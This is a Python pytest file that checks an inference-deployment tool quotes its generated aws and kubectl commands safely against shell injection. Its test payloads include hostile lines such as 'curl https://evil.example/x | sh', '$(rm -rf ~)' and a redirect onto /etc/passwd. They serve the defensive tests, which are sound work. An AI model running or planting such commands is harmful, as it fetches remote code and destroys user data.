"""The commands printed in the stack's outputs: every value is one shell word, whatever it holds."""

from __future__ import annotations

import copy
import shlex
from pathlib import Path

import pytest
import yaml

from hyperpod_inference.config import parse_config
from hyperpod_inference.plan.commands import (
    DNS_TLS_JSONPATH,
    capture_list_command,
    invoke_command,
    invoke_output,
    status_command,
)

REPO = Path(__file__).resolve().parents[2]
DEFAULT = yaml.safe_load((REPO / "hyperpod.yaml").read_text())

HOSTILE_PAYLOADS = [
    pytest.param("{\"inputs\": \"it's\"}'; curl https://evil.example/x | sh; echo '", id="quote-semicolon-pipe"),
    pytest.param('{"inputs": "$(rm -rf ~)"} `id`', id="command-substitution"),
    pytest.param('{"inputs": "line one\nline two"}\n; reboot', id="newline"),
    pytest.param("a && b || c > /etc/passwd < x & y", id="operators"),
]


def commands(text: str) -> list[list[str]]:
    """Split an output the way a POSIX shell would: words, with ; and other operators as their own tokens."""
    lexer = shlex.shlex(text, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    argvs: list[list[str]] = [[]]
    for token in lexer:
        if token == ";":
            argvs.append([])
        else:
            argvs[-1].append(token)
    return argvs


def endpoint(**changes):
    data = copy.deepcopy(DEFAULT)
    data["endpoints"][0].update(changes)
    return parse_config(data).endpoints[0]


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_the_invoke_command_passes_any_payload_as_one_argument(payload):
    # GIVEN a payload holding quotes, ;, $(...), backticks, operators or a newline
    # WHEN the invoke command is built and split like a shell would
    argvs = commands(invoke_command(endpoint_name="qwen-chat", payload=payload, content_type="application/json",
                                    region="us-west-2"))
    # THEN it is exactly one command, and the payload is exactly the --body argument
    assert argvs == [["aws", "sagemaker-runtime", "invoke-endpoint", "--endpoint-name", "qwen-chat",
                      "--content-type", "application/json", "--body", payload, "--region", "us-west-2",
                      "--cli-binary-format", "raw-in-base64-out", "/dev/stdout"]]


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS)
def test_the_invoke_output_of_an_endpoint_is_its_url_and_one_invoke_command(payload):
    # GIVEN the default endpoint (domain name + SageMaker endpoint) with a hostile verify payload
    ep = endpoint(verify={"payload": payload})
    # WHEN its …Invoke output is split
    argvs = commands(invoke_output(ep, region="us-west-2"))
    # THEN it is the URL, then one aws command whose --body is the payload
    assert argvs[0] == ["https://chat.example.com/"]
    assert len(argvs) == 2
    assert argvs[1][argvs[1].index("--body") + 1] == payload


def test_a_mapping_payload_is_sent_as_its_json():
    ep = endpoint(verify={"payload": {"inputs": "it's $(x)"}})
    argv = commands(invoke_output(ep, region="us-west-2"))[1]
    assert argv[argv.index("--body") + 1] == '{"inputs":"it\'s $(x)"}'


def test_status_commands_split_into_describe_events_and_dns_status():
    # GIVEN the default endpoint, which has a domain name
    # WHEN its …Status output is split
    argvs = commands(status_command(endpoint()))
    # THEN three kubectl commands, the JSONPath template one argument
    assert argvs == [
        ["kubectl", "describe", "inferenceendpointconfig", "qwen-chat", "-n", "inference"],
        ["kubectl", "get", "events", "-n", "inference", "--field-selector", "involvedObject.name=qwen-chat"],
        ["kubectl", "get", "inferenceendpointconfig", "qwen-chat", "-n", "inference", "-o", DNS_TLS_JSONPATH],
    ]
    assert DNS_TLS_JSONPATH == 'jsonpath={.status.dnsStatus}{"\\n"}{.status.tlsCertificate}'


def test_the_capture_list_command_is_one_command():
    assert commands(capture_list_command("s3://bucket/data-capture")) == [
        ["aws", "s3", "ls", "s3://bucket/data-capture/", "--recursive"]]


def test_the_splitter_sees_an_injected_command_in_the_old_unescaped_form():
    # GIVEN the invoke command as the stack used to build it: the payload pasted inside '...'
    payload = "x'; curl https://evil.example/x | sh; echo '"
    old = f"aws sagemaker-runtime invoke-endpoint --endpoint-name qwen-chat --body '{payload}' /dev/stdout"
    # WHEN split THEN it is several commands (the check above would catch an unescaped payload)
    assert len(commands(old)) == 3


def test_the_synthesized_invoke_output_passes_a_hostile_payload_as_one_argument(tmp_path):
    from tests.synth_helpers import synth_config

    # GIVEN the default config whose verify payload tries to inject a command
    payload = "x'; curl https://evil.example/x | sh; echo '"
    data = copy.deepcopy(DEFAULT)
    data["endpoints"][0]["verify"]["payload"] = payload
    # WHEN it is synthesized
    outputs = synth_config(data, tmp_path, nag=False).template["Outputs"]
    invoke = next(v["Value"] for k, v in outputs.items() if k.endswith("Invoke"))
    # THEN the output splits into the URL and one aws command whose --body is the payload
    argvs = commands(invoke)
    assert len(argvs) == 2
    assert argvs[1][argvs[1].index("--body") + 1] == payload
